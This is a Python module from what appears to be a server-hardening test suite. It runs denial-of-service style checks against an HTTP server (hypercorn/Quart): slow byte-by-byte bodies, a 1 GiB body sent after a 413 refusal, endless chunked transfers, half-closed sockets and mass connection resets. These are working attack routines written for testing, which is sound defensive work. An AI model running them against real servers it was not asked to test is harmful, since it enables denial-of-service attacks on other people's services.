"""Attacks with the body of a request, and with the end of the connection in its middle."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable

from attack import Attack, Outcome, fate
from hostile import Peer, eventually
from target import Target

DRIP_SECONDS = 0.05
"""Between two bytes: far less than any deadline for silence."""
SEEN_SECONDS = 0.3
"""For a server to see the end of what we send: it comes in the packet after the request."""
PIECE = b"x" * 65536
"""As much as hypercorn reads at once."""
AFTER_REFUSAL_BYTES = 8 * 1024 * 1024
"""More than the socket buffers of both sides hold: the server itself must have read some of it."""
CHUNKED_BYTES = 32 * 1024 * 1024
"""Twice Quart's own limit of a body."""
TRIES = 5
"""Of an attack that succeeds as released nine times in ten."""
DECLARED_BYTES = 1024 * 1024 * 1024
"""Far more than anybody reads."""


def drip_of_the_body(target: Target) -> Outcome:
    """A body that comes byte by byte keeps its handler waiting."""
    with target.connect() as peer:
        peer.send(
            f"POST {target.post} HTTP/1.1\r\nHost: a\r\nContent-Length: 9999\r\n\r\n".encode()
        )
        deadline = time.monotonic() + target.patience
        closed = False
        while not closed and time.monotonic() < deadline:
            closed = not peer.send(b"x") or peer.closed_within(DRIP_SECONDS)
    return Outcome(not closed, fate(target, closed))


def first_that_struck(target: Target, attempt: Callable[[Target], Outcome]) -> Outcome:
    """Of some attempts; as released it is chance whether a server that has answered 413 closes or reads on."""
    for _ in range(TRIES):
        outcome = attempt(target)
        if outcome.struck:
            break
    return outcome


def oversize_body(target: Target) -> Outcome:
    """A gigabyte is announced, refused, and sent all the same."""
    return first_that_struck(target, announce_a_gigabyte)


def announce_a_gigabyte(target: Target) -> Outcome:
    """One attempt."""
    head = f"POST {target.post} HTTP/1.1\r\nHost: a\r\nContent-Length: {DECLARED_BYTES}\r\n\r\n"
    with target.connect() as peer:
        peer.send(head.encode())
        answer = peer.answer()
        sent, taken = send_on(target, peer, PIECE, AFTER_REFUSAL_BYTES)
        stopped = not taken and target.lets_go(peer)
    status = "no answer" if answer is None else str(answer.status)
    after = "closed" if stopped else f"{sent >> 20} MiB more are read"
    return Outcome(status != "413" or not stopped, f"{status}, {after}")


def chunks_without_end(target: Target) -> Outcome:
    """A body that announces no length and does not end."""
    return first_that_struck(target, send_chunks)


def send_chunks(target: Target) -> Outcome:
    """One attempt."""
    head = f"POST {target.post} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    with target.connect() as peer:
        peer.send(head.encode())
        sent, taken = send_on(target, peer, b"10000\r\n" + PIECE + b"\r\n", CHUNKED_BYTES)
        gone = not taken and target.lets_go(peer)
    return Outcome(not gone, "closed" if gone else f"{sent >> 20} MiB are read")


def send_on(target: Target, peer: Peer, piece: bytes, most: int) -> tuple[int, bool]:
    """Sends pieces up to that sum. Returns: how much went, and whether the last was taken."""
    sent, taken = 0, True
    peer.socket.settimeout(target.patience)
    while taken and sent < most:
        taken = peer.send(piece)
        sent += len(piece)
    return sent, taken


def half_close_in_the_head(target: Target) -> Outcome:
    """The client says that it will send no more, in the middle of a head."""
    with target.connect() as peer:
        peer.send(b"GET / HTTP/1.1\r\nHo")
        peer.socket.shutdown(socket.SHUT_WR)
        closed = target.closes(peer)
    return Outcome(not closed, fate(target, closed))


def half_close_in_the_body(target: Target) -> Outcome:
    """The same in a body."""
    with target.connect() as peer:
        peer.send(f"POST {target.post} HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n\r\nx".encode())
        peer.socket.shutdown(socket.SHUT_WR)
        closed = target.closes(peer)
    return Outcome(not closed, fate(target, closed))


def half_close_after_the_request(target: Target) -> Outcome:
    """The same after a whole request, as simple clients do: it has asked, and waits for its answer."""
    with target.connect() as peer:
        peer.send(b"GET /work/half HTTP/1.1\r\nHost: a\r\n\r\n")
        peer.socket.shutdown(socket.SHUT_WR)
        # Who takes this for the client's leaving closes at once.
        peer.closed_within(SEEN_SECONDS)
        target.request("POST", "/release/half")
        answer = peer.answer()
        closed = target.closes(peer)
    seen = "no answer" if answer is None else f"answered {answer.status}"
    return Outcome(answer is None or not closed, f"{seen}, {fate(target, closed)}")


def reset_in_the_body(target: Target) -> Outcome:
    """RST in the middle of a request: nothing of it may stay."""
    peers = [target.connect() for _ in range(20)]
    names = {peer.name for peer in peers}
    head = f"POST {target.post} HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n\r\nx".encode()
    for peer in peers:
        peer.send(head)
    for peer in peers:
        peer.reset()
    gone = eventually(lambda: not names & target.held(), target.patience)
    quiet = "Traceback" not in target.server.output
    answers = target.answers(target.patience)
    seen = "all let go" if gone else "connections are kept"
    return Outcome(not (gone and quiet and answers), seen + ("" if quiet else ", tracebacks"))


ATTACKS = (
    Attack(hazard="A body comes byte by byte", run=drip_of_the_body, on_switchboard=True),
    Attack(
        hazard="A body of 1 GiB is announced, refused and sent",
        run=oversize_body,
        on_switchboard=True,
    ),
    Attack(hazard="Chunks without end", run=chunks_without_end, on_switchboard=True),
    Attack(
        hazard="Half-close in the head",
        run=half_close_in_the_head,
        struck_as_released=False,
        on_switchboard=True,
    ),
    Attack(
        hazard="Half-close in the body",
        run=half_close_in_the_body,
        struck_as_released=False,
        on_switchboard=True,
    ),
    Attack(
        hazard="Half-close after the request",
        run=half_close_after_the_request,
    ),
    Attack(
        hazard="RST in the body, 20 times",
        run=reset_in_the_body,
        struck_as_released=False,
        on_switchboard=True,
    ),
)
